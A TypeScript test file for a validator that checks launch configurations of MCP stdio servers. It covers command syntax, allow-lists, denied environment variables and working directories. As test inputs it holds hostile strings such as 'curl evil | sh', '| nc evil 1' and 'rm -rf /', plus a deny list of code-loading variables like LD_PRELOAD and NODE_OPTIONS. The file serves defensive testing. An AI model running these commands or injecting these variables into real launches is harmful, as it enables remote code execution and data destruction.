import { DEFAULT_DENIED_ENV, resolveDeniedEnv } from './denied-env';
import { checkStdioLaunch } from './stdio-guard';

const OPEN = { deniedEnv: DEFAULT_DENIED_ENV };
const ALLOW_LIST = {
  allowedCommands: ['npx', 'uvx', '/usr/local/bin/mcp-server'],
  deniedEnv: DEFAULT_DENIED_ENV,
};

describe('checkStdioLaunch', () => {
  it.each([
    ['npx', ['-y', '@modelcontextprotocol/server-filesystem', '/tmp']],
    ['uvx', ['mcp-server-git', '--repository', '/srv/repo']],
    ['node', ['server.js']],
    ['python3.12', ['-m', 'mcp_server']],
    ['/usr/local/bin/mcp-server', []],
    ['/opt/mcp-servers/fs_server-1.2+build', []],
    ['npx', ['some-server', 'a; rm -rf /', '$(curl evil)', '`id`', '| nc evil 1', '&& reboot', "'quoted'", '\n']],
  ])('accepts %j with args %j', (command, args) => {
    expect(checkStdioLaunch({ command, args }, OPEN)).toEqual([]);
  });

  it('accepts ordinary env variables', () => {
    const env = {
      GITHUB_TOKEN: 'x; rm -rf /',
      API_KEY: '$(id)',
      LOG_LEVEL: 'debug',
      _private: '1',
      lowercase_name: 'v',
    };

    expect(checkStdioLaunch({ command: 'npx', env }, OPEN)).toEqual([]);
  });

  it.each([
    ['sh -c "curl evil | sh"', 'shell command string'],
    ["bash -c 'id'", 'shell command string, single quotes'],
    ['npx -y server', 'arguments inside the command'],
    ['node;id', 'semicolon'],
    ['node|nc', 'pipe'],
    ['node&', 'ampersand'],
    ['$SHELL', 'variable expansion'],
    ['$(id)', 'command substitution'],
    ['`id`', 'backticks'],
    ['node>out', 'redirect'],
    ['node<in', 'redirect in'],
    ['(node)', 'subshell'],
    ['{node}', 'braces'],
    ['nod*', 'glob'],
    ['nod?', 'glob character'],
    ['nod[e]', 'bracket glob'],
    ['!node', 'history expansion'],
    ['~/bin/server', 'tilde'],
    ['"node"', 'double quotes'],
    ["'node'", 'single quotes'],
    ['node\nid', 'newline'],
    ['node\u0000', 'NUL'],
    ['node\tx', 'tab'],
    ['node\u00a0x', 'non-breaking space'],
    ['C:\\tools\\server.exe', 'backslashes'],
    ['node#x', 'comment'],
    ['./server', 'relative path'],
    ['../bin/server', 'parent-relative path'],
    ['bin/server', 'relative path without dot'],
    ['/usr/bin/../../tmp/evil', 'dot-dot segment in absolute path'],
    ['/usr/./bin/node', 'dot segment'],
    ['..', 'parent directory'],
    ['.', 'current directory'],
    ['', 'empty'],
    ['a'.repeat(1025), 'too long'],
  ])('refuses the command %j (%s)', (command) => {
    const issues = checkStdioLaunch({ command }, OPEN);

    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({
      field: 'config.command',
      code: 'COMMAND_INVALID',
    });
  });

  it('does not also report an invalid command as not allowed', () => {
    expect(checkStdioLaunch({ command: 'npx -y x' }, ALLOW_LIST)).toEqual([expect.objectContaining({ code: 'COMMAND_INVALID' })]);
  });

  describe('with an allow-list', () => {
    it.each(['npx', 'uvx', '/usr/local/bin/mcp-server'])('accepts %j', (command) => {
      expect(checkStdioLaunch({ command, args: ['-c', 'anything'] }, ALLOW_LIST)).toEqual([]);
    });

    it.each([
      ['sh', 'shell by name'],
      ['bash', 'another shell'],
      ['/bin/sh', 'shell by path'],
      ['/tmp/evil/npx', 'an allowed name at another path'],
      ['/usr/bin/npx', 'an allowed name given as a path'],
      ['mcp-server', 'the basename of an allowed path'],
      ['NPX', 'different case'],
    ])('refuses %j (%s)', (command) => {
      expect(checkStdioLaunch({ command, args: ['-c', 'id'] }, ALLOW_LIST)).toEqual([
        {
          field: 'config.command',
          code: 'COMMAND_NOT_ALLOWED',
          message: `command ${command} is not in the allowed list`,
        },
      ]);
    });

    it('treats an empty list as no restriction', () => {
      expect(checkStdioLaunch({ command: 'sh' }, { allowedCommands: [], deniedEnv: { families: [], allowed: [] } })).toEqual([]);
    });
  });

  describe('env', () => {
    it.each([
      'OPENSSL_CONF',
      'OPENSSL_MODULES',
      'OPENSSL_ENGINES',
      'HOME',
      'XDG_CONFIG_HOME',
      'PIP_INDEX_URL',
      'PIP_CONFIG_FILE',
      'UV_INDEX_URL',
      'UV_DEFAULT_INDEX',
      'DOCKER_HOST',
      'GIT_EXTERNAL_DIFF',
      'YARN_NPM_REGISTRY_SERVER',
      'BUN_CONFIG_REGISTRY',
      'COREPACK_NPM_REGISTRY',
      'CURL_HOME',
      'WGETRC',
      'RUBYGEMS_GEMDEPS',
    ])('refuses %s, which an attack got through', (name) => {
      expect(checkStdioLaunch({ command: 'node', env: { [name]: '/tmp/x' } }, OPEN)).toEqual([
        expect.objectContaining({
          field: `config.env.${name}`,
          code: 'ENV_NOT_ALLOWED',
        }),
      ]);
    });

    it.each([
      'LD_PRELOAD',
      'LD_LIBRARY_PATH',
      'LD_AUDIT',
      'DYLD_INSERT_LIBRARIES',
      'NODE_OPTIONS',
      'NODE_PATH',
      'NODE_EXTRA_CA_CERTS',
      'PYTHONPATH',
      'PYTHONSTARTUP',
      'PYTHONHOME',
      'PERL5LIB',
      'PERL5OPT',
      'RUBYOPT',
      'RUBYLIB',
      'JAVA_TOOL_OPTIONS',
      '_JAVA_OPTIONS',
      'JDK_JAVA_OPTIONS',
      'CLASSPATH',
      'BASH_ENV',
      'ENV',
      'PROMPT_COMMAND',
      'SHELLOPTS',
      'PS4',
      'GCONV_PATH',
      'GIT_SSH_COMMAND',
      'GIT_CONFIG_COUNT',
      'PATH',
      'npm_config_script_shell',
      'npm_config_node_options',
      'NPM_CONFIG_SCRIPT_SHELL',
      'Npm_Config_Registry',
    ])('refuses %s', (name) => {
      expect(checkStdioLaunch({ command: 'npx', env: { [name]: '/tmp/x' } }, OPEN)).toEqual([
        expect.objectContaining({
          field: `config.env.${name}`,
          code: 'ENV_NOT_ALLOWED',
        }),
      ]);
    });

    it.each(['LD_PRELOAD=/tmp/evil.so#', 'NODE_OPTIONS=--require=/tmp/x', 'A B', 'A\nLD_PRELOAD', '', '1ABC', 'NAME-WITH-DASH'])(
      'refuses the malformed name %j, which could smuggle another variable',
      (name) => {
        expect(checkStdioLaunch({ command: 'npx', env: { [name]: 'v' } }, OPEN)).toEqual([
          {
            field: `config.env.${name}`,
            code: 'ENV_NOT_ALLOWED',
            message: 'not a valid environment variable name',
          },
        ]);
      },
    );

    it('matches exact names case-sensitively, as the loaders read them', () => {
      expect(
        checkStdioLaunch(
          {
            command: 'npx',
            env: { ld_preload: 'x', node_options: 'y', Path: 'z' },
          },
          OPEN,
        ),
      ).toEqual([]);
    });

    it('reports every offending variable and the command together', () => {
      const issues = checkStdioLaunch(
        {
          command: 'sh',
          env: { LD_PRELOAD: 'a', SAFE: 'b', npm_config_script_shell: 'c' },
        },
        ALLOW_LIST,
      );

      expect(issues.map((issue) => [issue.field, issue.code])).toEqual([
        ['config.command', 'COMMAND_NOT_ALLOWED'],
        ['config.env.LD_PRELOAD', 'ENV_NOT_ALLOWED'],
        ['config.env.npm_config_script_shell', 'ENV_NOT_ALLOWED'],
      ]);
      expect(issues[1]?.message).toContain('STDIO_ALLOWED_ENV');
    });

    it('names the family and the override in the message', () => {
      expect(checkStdioLaunch({ command: 'node', env: { OPENSSL_CONF: '/tmp/evil.cnf' } }, OPEN)).toEqual([
        {
          field: 'config.env.OPENSSL_CONF',
          code: 'ENV_NOT_ALLOWED',
          message:
            'OPENSSL_CONF is refused: TLS library configuration can load code or write session keys to a file; an operator can allow it with STDIO_ALLOWED_ENV',
        },
      ]);
    });

    it('uses the denied families it is given', () => {
      const spec = {
        command: 'npx',
        env: { PATH: '/opt/bin', CUSTOM_HOOK: 'x' },
      };
      const custom = {
        family: 'custom hooks',
        why: 'run code',
        names: ['CUSTOM_HOOK'],
        prefixes: [],
      };

      expect(checkStdioLaunch(spec, { deniedEnv: resolveDeniedEnv(['PATH']) })).toEqual([]);
      const issues = checkStdioLaunch(spec, {
        deniedEnv: { families: [custom], allowed: [] },
      });

      expect(issues.map((issue) => issue.field)).toEqual(['config.env.CUSTOM_HOOK']);
      expect(issues[0]?.message).toContain('custom hooks run code');
    });
  });

  it.each([
    ['srv/app', 'must be an absolute path'],
    ['/srv/../etc', 'must not contain . or .. path segments'],
    ['/srv/\tapp', 'must not contain control characters'],
  ])('refuses the cwd %j', (cwd, message) => {
    expect(checkStdioLaunch({ command: 'node', cwd }, OPEN)).toEqual([
      { field: 'config.cwd', code: 'CWD_INVALID', message: `cwd ${message}` },
    ]);
  });

  it('accepts an absolute cwd', () => {
    expect(checkStdioLaunch({ command: 'node', cwd: '/srv/app' }, OPEN)).toEqual([]);
  });
});
